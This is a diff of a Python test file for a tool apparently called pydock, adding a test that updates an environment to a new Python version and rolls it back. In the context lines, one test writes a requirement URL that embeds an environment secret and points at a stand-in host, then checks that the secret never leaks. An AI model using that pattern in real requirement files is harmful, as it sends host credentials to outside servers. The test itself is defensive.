@@ -268,7 +268,7 @@ class FileTest(PackageCase):
         (self.work / "more files" / "c d.txt").write_text("beta<2\nsix<1\n", encoding="utf-8-sig")
         (self.work / "r.txt").write_text("-r 'more files/r.txt'\nbeta>=1 ; python_version > '3' # not this\n", encoding="utf-8")
         self.ok("create", "ds", PYTHON, "-r", "r.txt")
-        self.assertEqual(self.lines(), ["--extra-index-url " + index.url, "--prefer-binary", "alpha==1.0", "beta==1.5  # beta>=1,<2"])
+        self.assertEqual(self.lines(), ["--extra-index-url " + index.url, "--prefer-binary", "alpha==1.0", "beta==1.5; python_version > '3'  # beta>=1,<2"])
         (self.work / "thief.txt").write_text("alpha @ https://host.invalid/${PYDOCK_TEST_SECRET}/alpha.whl\n", encoding="utf-8")
         result = self.run_pydock("install", "ds", "-r", "thief.txt", environ={"PYDOCK_TEST_SECRET": "s3cr3t"})
         self.assertNotIn("s3cr3t", result.out + result.err, "a variable of this host reaches no file of others")
@@ -522,6 +522,34 @@ class UpdateTest(PackageCase):
         self.ok("rollback", "ds", "2")
         self.assertEqual(self.listed()["ds"]["state"], "ready")
         self.assert_clean("ds")
+
+    def test_another_python_resolves_anew_within_what_was_asked_for(self) -> None:
+        for name, version in (("alpha", "1.0"), ("alpha", "2.0"), ("old", "1.0")):
+            make_wheel(self.base / "packages", name, version, requires=["six"] if name == "alpha" else [])
+        index = self.index()
+        self.environ["PIP_TRUSTED_HOST"] = index.host.split(":")[0]
+        local = make_wheel(self.work, "local")
+        (self.work / "r.txt").write_text("--index-url %s\nalpha<2\nold; python_version < '3.12'\nbeta @ http://%s/files/%s\n" % (
+            index.url, index.host, make_wheel(self.base / "packages", "beta").name), encoding="utf-8")
+        make_wheel(self.base / "packages", "six", "1.0")
+        self.ok("create", "ds", PYTHON, "-r", "r.txt", str(local))
+        kept = [line for line in self.lines() if not line.startswith(("old", "six"))]
+        self.assertIn("old==1.0; python_version < '3.12'", self.lines())
+        make_wheel(self.base / "packages", "six", "1.1")
+        before = self.state()
+        self.fails("update", "ds", "--python", "3.99", says="there is no image")
+        self.fails("update", "ds", "--python", "new", says="cannot get Python new")
+        self.fails("update", "ds", "--python", PYTHON, says="has Python 3.11 already")
+        self.fails("update", "ds", "no-such-package-of-pydock", "--python", "3.13", says="cannot update")
+        self.assertEqual(self.state(), before)
+        self.assertIn("ds: Python 3.13, no old, six 1.1", self.run_pydock("update", "ds", "--python", "3.13").err)
+        self.assertIn("FROM ${REPOSITORY}python:3.13-slim AS base", (self.folder("ds") / "dockerfile").read_text(encoding="utf-8"))
+        self.assertEqual(self.lines(), [*kept[:-1], kept[-1], "old==1.0; python_version < '3.12'", "six==1.1  # via alpha"])
+        self.assertEqual(self.python("import sys, alpha, beta, local, six; print(sys.version_info[1])"), "13")
+        self.assertEqual(self.listed()["ds"]["state"], "ready")
+        self.assert_clean("ds")
+        self.ok("rollback", "ds")
+        self.assertEqual(self.state()[0], before[0])
 
     def test_nothing_to_update_is_no_error(self) -> None:
         self.ok("create", "ds", PYTHON)
